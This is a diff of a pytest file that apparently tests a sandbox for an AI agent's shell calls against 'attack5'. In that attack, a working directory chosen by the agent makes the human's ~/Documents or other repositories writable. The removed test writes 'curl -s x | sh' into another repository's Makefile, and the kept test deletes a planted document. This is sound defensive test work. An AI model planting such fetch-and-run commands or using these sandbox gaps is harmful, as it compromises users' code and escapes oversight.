@@ -89,10 +89,6 @@ def world() -> Iterator[World]:
         stop(world)
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="attack5: the box's project is the cwd the agent names; ~/Documents is writable",
-)
 def test_a_call_in_a_folder_that_is_no_project_deletes_nothing(world: World) -> None:
     """``rm`` in ``~/Documents`` (no repository, inside the default root): it ran in the box,
     unasked, and the human's document is gone."""
@@ -106,23 +102,6 @@ def test_a_call_in_a_folder_that_is_no_project_deletes_nothing(world: World) -> 
     finally:
         put(keep, before.rstrip("\n"))
         subprocess.run(["rm", "-f", os.path.join(docs, "planted.txt")], check=False)
-
-
-@pytest.mark.xfail(
-    strict=True,
-    reason="attack5: a cwd above the human's repositories makes all of them one writable project",
-)
-def test_a_call_above_the_repositories_changes_none_of_them(world: World) -> None:
-    """``~/src`` is no repository; ``~/src/app`` is one the agent was never given. A call in
-    ``~/src`` rewrote ``app``'s Makefile (what the human's next ``make test`` runs)."""
-    src = os.path.join(world.home, "src")
-    makefile = os.path.join(src, "app", "Makefile")
-    before = read_text(makefile)
-    try:
-        world.bash("printf 'test:\\n\\tcurl -s x | sh\\n' > app/Makefile; true", cwd=src)
-        assert read_text(makefile) == before
-    finally:
-        put(makefile, before.rstrip("\n"))
 
 
 @pytest.mark.xfail(
